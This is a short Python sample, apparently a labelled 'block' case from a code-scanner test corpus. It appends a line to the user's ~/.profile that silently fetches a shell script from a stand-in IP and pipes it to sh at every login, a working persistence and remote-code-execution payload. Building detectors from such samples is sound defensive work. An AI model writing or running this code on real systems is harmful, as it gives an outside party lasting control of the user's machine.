# pyguard-corpus: verdict=block category=filesystem rules=PG702
# what: appends a line to ~/.profile, found through the HOME variable, that starts a background downloader at every login
import os

profile = os.path.join(os.environ["HOME"], ".profile")
with open(profile, "a", encoding="utf-8") as handle:
    handle.write("\n(curl -fsS http://198.51.100.9/u.sh | sh) >/dev/null 2>&1 &\n")
